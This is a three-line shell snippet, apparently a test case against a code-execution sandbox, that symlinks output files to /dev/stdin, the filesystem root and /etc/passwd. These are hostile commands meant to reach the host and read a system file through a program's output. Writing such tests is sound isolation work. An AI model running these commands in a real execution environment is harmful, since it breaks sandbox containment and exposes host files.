# Attack on stdin_stdout (symlinks): links its files to devices and to the host.
ln -sf /dev/stdin stdout.txt; ln -sf / root; ln -sf /etc/passwd answer.txt
cat stdout.txt
